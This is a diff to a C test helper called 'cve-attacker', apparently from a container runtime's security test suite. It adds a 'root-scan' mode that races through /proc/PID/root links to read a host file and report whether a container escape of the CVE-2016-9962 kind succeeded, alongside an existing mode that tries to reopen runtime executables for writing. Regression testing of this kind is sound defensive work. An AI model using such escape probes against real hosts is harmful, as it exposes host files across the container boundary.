@@ -15,6 +15,12 @@
  *     NAME: an overlayfs path /NAME or a memfd), hold an O_PATH fd on each, and keep reopening them
  *     for writing.  ->  seen=N (runtime exes opened), denied=N (exe links refused: non-dumpable),
  *     write=<first result>, overwritten=0|1
+ *
+ *   cve-attacker root-scan PATH SECONDS RESULT
+ *     For SECONDS, keep trying every other process's /proc/PID/root + PATH (PATH a host file the test
+ *     made): a runtime process that is already in the container's pid namespace but not yet in its
+ *     mount namespace and root shows the host's filesystem there (CVE-2016-9962's class). Only read.
+ *     ->  pids=N (processes seen), opened=N (root links opened), escaped=0|1, read=<first line>
  */
 #include <dirent.h>
 #include <errno.h>
@@ -197,13 +203,59 @@ static int cmd_exe_scan(char **argv)
         return write_result(argv[3], text);
 }
 
+static int cmd_root_scan(char **argv)
+{
+        const char *want = argv[0];
+        double deadline = now() + atof(argv[1]);
+        pid_t self = getpid(), last = 0;
+        int pids = 0, opened = 0, escaped = 0;
+        char line[256] = "";
+        while (now() < deadline && !escaped) {
+                DIR *proc = opendir("/proc");
+                if (!proc)
+                        return 1;
+                struct dirent *e;
+                while ((e = readdir(proc)) && !escaped) {
+                        pid_t pid = (pid_t)atoi(e->d_name);
+                        if (pid <= 0 || pid == self)
+                                continue;
+                        if (pid > last) {
+                                pids++;
+                                last = pid;
+                        }
+                        char path[4200];
+                        snprintf(path, sizeof(path), "/proc/%d/root", pid);
+                        int root = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
+                        if (root < 0)
+                                continue;
+                        opened++;
+                        int fd = openat(root, want[0] == '/' ? want + 1 : want, O_RDONLY | O_CLOEXEC);
+                        close(root);
+                        if (fd < 0)
+                                continue;
+                        ssize_t n = read(fd, line, sizeof(line) - 1);
+                        close(fd);
+                        line[n > 0 ? n : 0] = '\0';
+                        line[strcspn(line, "\n")] = '\0';
+                        escaped = 1;
+                }
+                closedir(proc);
+        }
+        char text[512];
+        snprintf(text, sizeof(text), "pids=%d\nopened=%d\nescaped=%d\nread=%s\n", pids, opened, escaped, line);
+        return write_result(argv[2], text);
+}
+
 int main(int argc, char **argv)
 {
         if (argc == 6 && strcmp(argv[1], "reopen") == 0)
                 return cmd_reopen(argv + 2);
         if (argc == 6 && strcmp(argv[1], "exe-scan") == 0)
                 return cmd_exe_scan(argv + 2);
+        if (argc == 5 && strcmp(argv[1], "root-scan") == 0)
+                return cmd_root_scan(argv + 2);
         fprintf(stderr, "usage: cve-attacker reopen FD DEV:INO SECONDS RESULT\n"
-                        "       cve-attacker exe-scan DEV:INO NAME SECONDS RESULT\n");
+                        "       cve-attacker exe-scan DEV:INO NAME SECONDS RESULT\n"
+                        "       cve-attacker root-scan PATH SECONDS RESULT\n");
         return 2;
 }
